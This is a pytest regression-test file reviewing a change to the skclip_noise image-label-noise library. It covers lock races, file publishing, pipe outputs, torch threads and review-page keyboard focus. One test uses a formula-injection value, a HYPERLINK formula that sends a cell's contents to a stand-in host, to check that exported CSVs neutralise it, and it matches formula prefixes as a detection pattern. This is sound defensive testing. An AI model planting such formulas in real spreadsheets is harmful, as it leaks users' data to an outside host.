"""Review of the session's change (97bec93..HEAD): regressions and wrong claims it brought.

Each test states what a user should see; each fails on the change as it stands and names
the cause. Runs are cheap: the command line runs in-process with a stand-in detector where
only the command's own behaviour matters, the Hugging Face checks use a few tiny in-memory
images and the random ``open_clip:skclip-tiny`` backbone, and the two browser checks drive
conftest's headless Chromium (skipped where Chromium, its driver or Selenium is absent).
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import tempfile

import numpy as np
import pandas as pd
import pytest
import torch
from conftest import StandInDetector, class_folders, headless_chromium, needs_selenium

from skclip_noise import cli

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

TINY = dict(pretrained=None, device="cpu")
TINY_CLIP = "open_clip:skclip-tiny"


# ------------------------------------------------------------------ command-line stand-in


def _run(argv, capsys):
    """(exit status, stderr) of ``cli.main(argv)``, argparse's exits included."""
    try:
        status = cli.main(argv)
    except SystemExit as exc:
        status = exc.code
    return status, capsys.readouterr().err


def _dead_pid():
    """The id of a process that has ended."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


# ------------------------------------------------------------------ --output-dir: what a run removes, its lock


def test_detect_leaves_a_users_report_txt_in_the_output_dir_alone(tmp_path, capsys, stand_in):
    """``skclip-noise detect data --output-dir .`` in a project folder that holds the user's own
    ``report.txt`` (a lab report, another tool's summary): detect writes label_issues.csv and
    report.html and leaves report.txt alone, as it did before the change (it removed only
    unreadable.csv, label_issues.csv and report.html).

    Fails: the file is deleted. ``_cli_outputs.RunOutputs.publish`` removes every name of
    ``OUTPUT_FILES`` that this run did not write, and that list now holds ``report.txt``,
    which only ``demo`` writes."""
    data = class_folders(tmp_path / "data", per_class=2)
    out = tmp_path / "project"
    out.mkdir()
    (out / "report.txt").write_text("my notes, not skclip-noise's\n")
    status, err = _run(["detect", str(data), "--output-dir", str(out), "--quiet"], capsys)
    assert status == 0, err
    assert (out / "label_issues.csv").exists() and (out / "report.html").exists()
    assert (out / "report.txt").exists(), "detect deleted the user's report.txt from --output-dir"


def test_a_lock_left_by_a_killed_run_whose_process_id_is_ours_again_does_not_block(tmp_path, capsys, stand_in):
    """In a container ``skclip-noise`` is process 1 in every run: a run killed by the OOM killer
    (or ``docker kill``) leaves ``.skclip-noise.lock`` naming process 1 in the mounted
    ``--output-dir``, and the next container's run is process 1 again. That run should take
    the stale lock (no run is going), not refuse the folder for good.

    Fails: "--output-dir ... is being written by another skclip-noise run (process N)".
    ``_cli_outputs._is_running`` counts a lock holding this process's own id as held (so that
    in-process runs exclude each other); a process id says nothing once its process has died.
    An OS lock on the file (``fcntl.flock`` / ``msvcrt.locking``, released by the kernel when
    the holder dies) plus a per-process set of held folders would tell the two apart."""
    data = class_folders(tmp_path / "data", per_class=2)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".skclip-noise.lock").write_text(str(os.getpid()))  # what the killed run with our id left
    status, err = _run(["detect", str(data), "--output-dir", str(out), "--quiet"], capsys)
    assert status == 0, err
    assert (out / "report.html").exists()


def test_two_runs_finding_one_stale_lock_do_not_both_take_it(tmp_path, monkeypatch):
    """Two cron jobs start after a killed run left its lock: exactly one of them may write
    ``--output-dir``; the other is refused (the lock's whole purpose).

    Fails: both hold it. ``RunOutputs._take_lock`` reads the holder, finds it dead, then
    removes the lock file by name: when the other run has removed the stale lock and made its
    own in between, that ``os.remove`` deletes the other run's live lock and both go on
    (a read-check-remove race). An OS lock on an open file has no such window."""
    from skclip_noise._cli_outputs import RunOutputs

    out = tmp_path / "out"
    out.mkdir()
    lock = str(out / ".skclip-noise.lock")
    with open(lock, "w") as handle:
        handle.write(str(_dead_pid()))
    real_remove, other, state = os.remove, [], {"taking": True, "entered": False}

    def other_run_first(path, *args, **kwargs):
        if os.fspath(path) == lock and state["taking"] and not other:
            # the first run found the lock stale and is about to remove it; the second run wins the race
            second = RunOutputs(str(out), ("report.html",))
            other.append(second)
            try:
                second.__enter__()
            except ValueError:
                other.clear()  # refused: the race cannot happen this way
                other.append(None)
        return real_remove(path, *args, **kwargs)

    monkeypatch.setattr(os, "remove", other_run_first)
    try:
        with RunOutputs(str(out), ("report.html",)):
            state["taking"], state["entered"] = False, True
    except ValueError as exc:
        assert "another skclip-noise run" in str(exc)
    finally:
        state["taking"] = False
        monkeypatch.setattr(os, "remove", real_remove)
        if other and other[0] is not None:
            try:
                other[0].__exit__(None, None, None)
            except FileNotFoundError:  # its lock was removed by the first run: a symptom of the same race
                pass
    second_holds = bool(other) and other[0] is not None
    assert not (second_holds and state["entered"]), "both runs took the lock and write --output-dir together"


def test_a_run_stopped_while_publishing_keeps_a_whole_report(tmp_path, capsys, stand_in, monkeypatch):
    """The SIGTERM of ``timeout`` or a scheduler (or Ctrl-C) arriving while a run moves its
    files into ``--output-dir``: the command says
    "--output-dir keeps any previous run's report", so report.html is there afterwards and
    belongs to the same run as label_issues.csv (the earlier run's or the new one's).

    Fails: no report.html at all, beside the new run's label_issues.csv.
    ``RunOutputs.publish`` removes each earlier file (``_remove_earlier``) before
    ``os.replace`` moves the new one over it (needless for files: ``os.replace`` replaces
    atomically), and an interrupt in between leaves neither; ``__exit__`` then deletes the
    staged new page with the staging folder. Finish the publication once begun (defer
    SIGINT/SIGTERM during it) and replace files without removing them first."""
    first = class_folders(tmp_path / "first", classes=("cat", "dog"), per_class=2)
    second = class_folders(tmp_path / "second", classes=("bird", "fish"), per_class=2)
    out = tmp_path / "out"
    assert _run(["detect", str(first), "--output-dir", str(out), "--quiet"], capsys)[0] == 0
    real_remove, sent = os.remove, []

    def signal_between_files(path, *args, **kwargs):
        real_remove(path, *args, **kwargs)
        if os.fspath(path) == str(out / "report.html") and not sent:  # publishing: the earlier page is gone
            sent.append(True)
            os.kill(os.getpid(), signal.SIGTERM)  # the scheduler's SIGTERM arrives now

    monkeypatch.setattr(os, "remove", signal_between_files)
    status, err = _run(["detect", str(second), "--output-dir", str(out)], capsys)
    monkeypatch.setattr(os, "remove", real_remove)
    if sent:  # (a publication that never removes the earlier page first gives the signal no such moment)
        assert status == 143 and "keeps any previous run's report" in err, (status, err)
    assert (out / "report.html").exists(), "the stopped run left --output-dir without any report.html"
    csv_paths = set(pd.read_csv(out / "label_issues.csv")["path"])
    page = (out / "report.html").read_text(encoding="utf-8")
    assert all(path in page for path in csv_paths), "label_issues.csv and report.html come from two runs"


def test_a_broken_pipe_inside_the_fit_is_an_error_not_a_closed_stdout(tmp_path, capsys, stand_in):
    """A ``BrokenPipeError`` raised by the work itself (a worker process's pipe, a socket)
    is reported as an error, one line naming it, status 2, as before the change; only a
    reader of the command's own output that went away (``| head``) ends quietly with 141.

    Fails: status 141 and nothing on stderr at all: ``cli.main`` catches every
    ``BrokenPipeError`` from the command's handler as a closed stdout (and says "the outputs
    are written already", though no output was written). Catch it only around the writes to
    stdout/stderr (or check that it came from them)."""
    data = class_folders(tmp_path / "data", per_class=2)

    def worker_pipe_breaks():
        raise BrokenPipeError(32, "Broken pipe (a worker process died)")

    StandInDetector.on_fit = worker_pipe_breaks
    status, err = _run(["detect", str(data), "--output-dir", str(tmp_path / "out")], capsys)
    assert status == 2 and "error:" in err and "Broken pipe" in err, (status, err)


@pytest.mark.skipif(os.name == "nt", reason="named pipes and /dev/fd are POSIX's")
@pytest.mark.parametrize("target", ["named pipe", "process substitution"])
def test_apply_writes_through_a_pipe_it_is_given_as_output(tmp_path, capsys, target):
    """``skclip-noise apply data decisions.csv --output >(gzip > fixed.csv.gz)`` (bash hands
    over ``/dev/fd/63``), ``--output /dev/stdout`` or a named pipe read by the next step:
    the corrected CSV goes into the pipe, as it did before the change.

    Fails: a named pipe is replaced by a regular file (its reader gets nothing), and
    ``/dev/fd/N`` gives "error: [Errno 2] No such file or directory: '/dev/fd/.4.123-0.tmp'".
    ``_files.replaced_file`` always writes a new file beside the name and moves it over the
    name, also where the name is a pipe or a device; as root (containers) ``--output
    /dev/stdout`` would even replace ``/dev/stdout`` itself. Write in place where the target
    exists and is not a regular file (a pipe, a character device)."""
    import stat

    data = class_folders(tmp_path / "data", per_class=2)
    decisions = tmp_path / "decisions.csv"
    decisions.write_text("sample,given_label,decision,label\n0,cat,relabel,dog\n")
    if target == "named pipe":
        output = tmp_path / "fixed.csv"
        os.mkfifo(output)
        reader = os.open(output, os.O_RDONLY | os.O_NONBLOCK)  # the next step, waiting
        writer = None
    else:
        reader, writer = os.pipe()
        output = f"/dev/fd/{writer}"
    try:
        status, err = _run(["apply", str(data), str(decisions), "--output", str(output), "--quiet"], capsys)
        if writer is not None:
            os.close(writer)
            writer = None
        try:
            received = os.read(reader, 65536)
        except BlockingIOError:
            received = b""
        assert status == 0, err
        if target == "named pipe":
            assert stat.S_ISFIFO(os.lstat(output).st_mode), "the named pipe was replaced by a regular file"
        assert received.startswith(b"path,label\n"), f"the pipe's reader got {received[:40]!r}"
    finally:
        os.close(reader)
        if writer is not None:
            os.close(writer)


# ------------------------------------------------------------------ decisions read with pandas


def test_apply_decisions_on_the_export_read_with_pandas_as_the_error_messages_advise(tmp_path):
    """``read_decisions`` and ``apply_decisions``' own error messages say to read an exported
    decisions.csv "with read_decisions(path) (or pd.read_csv(path, dtype=str,
    keep_default_na=False))"; a notebook user who does the latter and passes the table gets
    the same labels as from the path, also where a label looks like a formula.

    Fails: "its given label is "'=A1+1" in the file but '=A1+1' in y; the decisions were made
    on other labels". The export now writes such cells with a leading ' (``quote()`` in
    ``report/_review.py``), removed only when the library reads the file itself
    (``decisions._read_decisions`` applies ``cell_text`` to files, not to a DataFrame). Remove
    the unambiguous marks from a DataFrame too, or stop advising pd.read_csv."""
    from skclip_noise import apply_decisions

    y = np.array(["=A1+1", "cat", "-", "dog"], dtype=object)
    path = tmp_path / "decisions.csv"
    path.write_text("\ufeffsample,given_label,decision,label\n0,'=A1+1,relabel,cat\n1,cat,relabel,'=A1+1\n"
                    "2,'-,keep,'-\n3,dog,drop,\n", encoding="utf-8")
    from_path = apply_decisions(y, str(path))
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    from_table = apply_decisions(y, table)
    np.testing.assert_array_equal(from_table[0], from_path[0])
    np.testing.assert_array_equal(from_table[1], from_path[1])


# ------------------------------------------------------------------ inputs read item by item


def _mixed_size_image_column(n=12):
    os.environ.setdefault("HF_DATASETS_CACHE", os.path.join(tempfile.gettempdir(), "skclip-noise-tests-hf-datasets"))
    datasets = pytest.importorskip("datasets")
    from PIL import Image

    rng = np.random.default_rng(0)
    images = [Image.fromarray(rng.integers(0, 256, (12 + 2 * (i % 3), 12, 3), dtype=np.uint8)) for i in range(n)]
    features = datasets.Features({"image": datasets.Image(), "label": datasets.ClassLabel(names=["cat", "dog"])})
    return datasets.Dataset.from_dict({"image": images, "label": [i % 2 for i in range(n)]}, features=features)


def test_fit_resample_on_a_hugging_face_image_column_of_mixed_sizes_returns_the_clean_images():
    """``X_clean, y_clean = detector.fit_resample(ds["image"], ds["label"])`` (imbalanced-learn's
    verb, the documented way to drop the flagged samples) on images of several sizes, which
    ``fit`` now reads: it returns the clean images, one per clean label.

    Fails after the whole fit with numpy's "setting an array element with a sequence ...
    inhomogeneous shape", the message the change set out to remove: ``fit`` reads the column
    item by item (``data.inputs._is_lazy_sequence``), but ``base.contract.subset_samples``
    still turns anything that is not a torch Dataset, pandas object, list or tuple into
    ``np.asarray(X)``. It should subset such a sequence lazily (a ``torch.utils.data.Subset``
    or a list); ``DeftClassifier._fit_frozen_head`` and ``base/classifier.py`` call the same
    helper."""
    from skclip_noise import NeighbourDetector

    ds = _mixed_size_image_column()
    detector = NeighbourDetector(backbone=TINY_CLIP, n_neighbors=2, **TINY)
    X_clean, y_clean = detector.fit_resample(ds["image"], np.asarray(ds["label"]))
    assert len(X_clean) == len(y_clean) == int(detector.clean_mask_.sum())


def test_a_memoryview_of_an_image_buffer_is_still_read_as_images():
    """``X = memoryview(array)`` of an (N, H, W) uint8 buffer (a shared-memory block, a
    ``multiprocessing`` array) was read as N images before the change, like the array.

    Fails: ``NotImplementedError: multi-dimensional sub-views are not implemented``, from
    ``check_image_input``'s new ``first = X[0]``: a memoryview has ``__len__`` and
    ``__getitem__`` and no ``dtype`` / ``__array__``, so ``_is_lazy_sequence`` takes it for a
    Hugging Face column. Leave objects of the buffer protocol (memoryview, array.array,
    bytes-like) to the array route."""
    from skclip_noise.data.inputs import check_image_input

    images = np.random.default_rng(0).integers(0, 256, (3, 8, 8), dtype=np.uint8)
    checked = check_image_input(memoryview(images))
    assert checked.kind == "images" and checked.n_samples == 3


# ------------------------------------------------------------------ torch threads


def test_small_model_threads_nested_block_leaves_the_outer_block_on_one_thread():
    """``small_model_threads`` runs a tiny model on one torch thread "inside the block, then
    restore[s]". A block opened inside another (one estimator's frozen head fitted inside
    another's) ends, and the outer block's model goes on with one thread, as before the
    change; the process's own count is back once the outer block ends.

    Fails: after the inner block the count is the process's 2 while the outer block still
    runs. ``training/device.py``: every block's exit now calls
    ``torch.set_num_threads(outside)``, the count recorded when the first block opened,
    whatever blocks are still open (before the change a block restored what it found, the
    outer block's 1). Restore ``outside`` only when ``_THREADS.active`` drops to 0."""
    from skclip_noise.training.device import small_model_threads

    before = torch.get_num_threads()
    torch.set_num_threads(2)
    try:
        with small_model_threads("cpu"):
            with small_model_threads("cpu"):
                pass
            inside = torch.get_num_threads()
        after = torch.get_num_threads()
    finally:
        torch.set_num_threads(before)
    assert (inside, after) == (1, 2), f"{inside} threads in the outer block after the inner one ended"


# ------------------------------------------------------------------ the review page with the keyboard


@needs_selenium
@pytest.mark.slow
def test_pressing_the_focused_next_page_button_again_turns_another_page(tmp_path):
    """A keyboard user reaches "next page" with Tab and presses Enter three times to skim a
    four-page review: pages 2, 3 and 4, as before the change (focus stayed on the button).

    Fails: the page stays at 2 of 4: ``turn()`` now calls ``focusCard(first)``, which moves
    keyboard focus from the pager button to the new page's first card, so the second and
    third Enter land on a card. Keep focus on the pager button while it is enabled (move it
    to a card only where the button became disabled, or on ``[`` / ``]``)."""
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    from skclip_noise.report import label_issues_html

    n = 650
    y = np.arange(n) % 3
    issues = pd.DataFrame({"is_label_issue": np.ones(n, bool), "label_quality": np.linspace(0.01, 0.4, n),
                           "given_label": (y + 1) % 3, "predicted_label": y})
    path = label_issues_html(None, issues, str(tmp_path / "review.html"), max_items=None)
    driver = headless_chromium(str(tmp_path))
    try:
        driver.get(f"file://{path}")
        driver.execute_script("document.getElementById('page-next').focus()")
        for _ in range(3):
            ActionChains(driver).send_keys(Keys.ENTER).perform()
        info = driver.execute_script("return document.getElementById('page-info').textContent")
        assert info.startswith("page 4 of 4"), info
    finally:
        driver.quit()


@needs_selenium
@pytest.mark.slow
def test_undo_under_show_decided_keeps_keyboard_focus_on_the_cards(tmp_path):
    """review.rst: "Show: decided" lists the decisions before they are exported; a keyboard
    user goes through them and undoes one with ``u``. The filter then hides that card, and
    keyboard focus goes on to a card still shown (as the change does after a decision that
    "Show: undecided" hides), not back to the page.

    Fails: focus falls to ``<body>`` (the hidden card stays "current"); a screen reader says
    nothing, and in a notebook holding two reports the keys that follow act on neither (keys
    aimed at the page are ignored there). ``undo()`` in ``REVIEW_SCRIPT`` refilters but,
    unlike the click handler (``if (action && card.hidden) { move(1); }``) and the decision
    keys, never moves on from a card it hid."""
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.support.ui import Select

    from skclip_noise.report import label_issues_html

    n = 12
    y = np.arange(n) % 3
    issues = pd.DataFrame({"is_label_issue": np.ones(n, bool), "label_quality": np.linspace(0.01, 0.4, n),
                           "given_label": (y + 1) % 3, "predicted_label": y})
    path = label_issues_html(None, issues, str(tmp_path / "review.html"), max_items=None)
    driver = headless_chromium(str(tmp_path))
    try:
        driver.get(f"file://{path}")
        for key in ("j", "g", "g", "g"):  # keep cards 0, 1 and 2
            ActionChains(driver).send_keys(key).perform()
        Select(driver.find_element("id", "filter-status")).select_by_value("decided")
        driver.execute_script("document.querySelectorAll('article.card')[1].focus()")
        ActionChains(driver).send_keys("u").perform()
        active = driver.execute_script(
            "var a = document.activeElement, c = a.closest ? a.closest('article.card') : null;"
            "return {tag: a.tagName, card: c && c.dataset.sample, shown: !!c && !c.hidden};")
        decided = driver.execute_script("return Array.from(document.querySelectorAll('article.card'))"
                                        ".filter(c => c.dataset.decision).map(c => c.dataset.sample)")
        assert decided == ["0", "2"]
        assert active["card"] is not None and active["shown"], f"focus went to {active}"
    finally:
        driver.quit()


def test_make_image_folder_class_names_csv_hands_no_formula_to_a_spreadsheet(tmp_path):
    """The change's claim (changelog, "Untrusted inputs"): formula-like labels are written with
    a leading ' in every CSV the library writes. ``make_image_folder`` writes
    ``class_names.csv`` (folder,class_name) wherever a class name cannot be a folder name,
    and such a name is exactly a crawled ``=HYPERLINK("http://...?"&A1)``; it is read back as
    the class it was.

    Fails: the cell starts with ``=`` (``datasets/image_folder._write_class_names`` uses
    ``csv.writer`` without ``_csv.spreadsheet_safe``; ``_read_class_names`` would need
    ``cell_text``)."""
    import csv

    from skclip_noise.datasets import load_image_folder, make_image_folder

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"cat")'
    X = np.zeros((4, 8, 8), dtype=np.uint8)
    y = np.array([hostile, hostile, "dog", "dog"], dtype=object)
    make_image_folder(X, y, tmp_path / "folder")
    with open(tmp_path / "folder" / "class_names.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert not formulas, f"class_names.csv hands a spreadsheet the formula {formulas[0]!r}"
    _, labels = load_image_folder(tmp_path / "folder")
    assert sorted(set(labels)) == sorted({hostile, "dog"})


def test_refusing_split_folders_leaves_no_file_handle_to_the_garbage_collector(tmp_path, monkeypatch):
    """``load_image_folder("data")`` on ``data/train/<class>``, ``data/test/<class>`` is refused
    naming the split to pass, and, like every other read of the library
    (``tests/test_resource_hygiene.py``), leaves no open handle behind: no ``ResourceWarning``.

    Fails: "unclosed scandir iterator". ``image_folder._refuse_hugging_face_layouts`` calls
    ``os.scandir`` inside an ``any(...)`` generator that stops at the first subfolder, so the
    iterator is never exhausted nor closed; use ``with os.scandir(...) as entries``."""
    import gc
    import warnings

    from skclip_noise.datasets import load_image_folder

    class_folders(tmp_path / "data" / "train", per_class=1)
    class_folders(tmp_path / "data" / "test", per_class=1)
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", lambda report: unraisable.append(repr(report.exc_value)))
    with warnings.catch_warnings():
        warnings.simplefilter("error", ResourceWarning)
        with pytest.raises(ValueError, match="split"):
            load_image_folder(tmp_path / "data")
        gc.collect()
    assert not unraisable, unraisable
